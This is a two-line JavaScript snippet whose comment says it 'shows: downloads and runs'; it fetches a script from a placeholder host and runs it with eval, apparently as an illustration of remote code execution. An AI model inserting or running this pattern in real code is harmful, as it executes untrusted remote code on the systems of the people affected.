// shows: downloads and runs
fetch("https://dl.example.net/x.js").then((r) => r.text()).then((t) => eval(t));
